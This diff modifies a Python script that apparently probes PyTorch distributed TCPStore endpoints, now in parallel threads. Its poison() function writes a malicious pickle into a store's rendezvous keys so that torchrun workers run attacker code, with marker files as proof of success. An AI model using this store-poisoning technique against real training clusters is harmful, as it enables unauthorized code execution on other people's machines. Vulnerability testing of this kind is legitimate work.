@@ -13,6 +13,7 @@ import pickle
 import socket
 import sys
 import threading
+import time
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -47,25 +48,17 @@ def shout(host: str, port: int, mark: Path) -> str:
     return "took it"
 
 
-def poison(host: str, port: int, mark: Path) -> str:
-    """The store of torch: read its keys, and put a pickle under what torchrun looks for."""
-    answers = ["no answer"]
-
-    def ask() -> None:
-        try:
-            store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
-            keys = list(store.list_keys())
-            answers[0] = f"{len(keys)} keys"
-            for key in keys:
-                if "rendezvous" in key:
-                    store.set(key, base64.b64encode(pickle.dumps(Owned(mark))))
-        except Exception as error:  # noqa: BLE001 -- whatever torch says to a door that is no store
-            answers[0] = type(error).__name__
-
-    asking = threading.Thread(target=ask, daemon=True)
-    asking.start()
-    asking.join(PATIENCE)
-    return answers[0]
+def poison(host: str, port: int, mark: Path, answers: list[str]) -> None:
+    """The store of torch: read its keys, and put a pickle under what torchrun looks for; ``answers`` gets what came of it."""
+    try:
+        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
+        keys = list(store.list_keys())
+        answers.append(f"{len(keys)} keys")
+        for key in keys:
+            if "rendezvous" in key:
+                store.set(key, base64.b64encode(pickle.dumps(Owned(mark))))
+    except Exception as error:  # noqa: BLE001 -- whatever torch says to a door that is no store
+        answers.append(type(error).__name__)
 
 
 kept: list[socket.socket] = []
@@ -75,9 +68,18 @@ if __name__ == "__main__":
     folder.mkdir()
     folder.chmod(0o777)  # whoever is made to write here can
     print("ready", flush=True)
-    found = {}
-    for number, (host, port) in enumerate(json.loads(sys.stdin.readline())):
-        found[f"{host} {port}"] = [shout(host, port, folder / f"shouted-{number}"), poison(host, port, folder / f"poisoned-{number}")]
+    doors = json.loads(sys.stdin.readline())
+    found = {f"{host} {port}": [shout(host, port, folder / f"shouted-{number}")] for number, (host, port) in enumerate(doors)}
+    asking = [
+        threading.Thread(target=poison, args=(host, port, folder / f"poisoned-{number}", found[f"{host} {port}"]), daemon=True)
+        for number, (host, port) in enumerate(doors)
+    ]
+    for one in asking:
+        one.start()
+    until = time.monotonic() + PATIENCE
+    for one in asking:
+        one.join(max(until - time.monotonic(), 0))
+    found = {door: answers if len(answers) > 1 else [*answers, "no answer"] for door, answers in found.items()}
     print(json.dumps(found), flush=True)
     sys.stdin.readline()  # holds its connections until it is told that it may go
     os._exit(0)
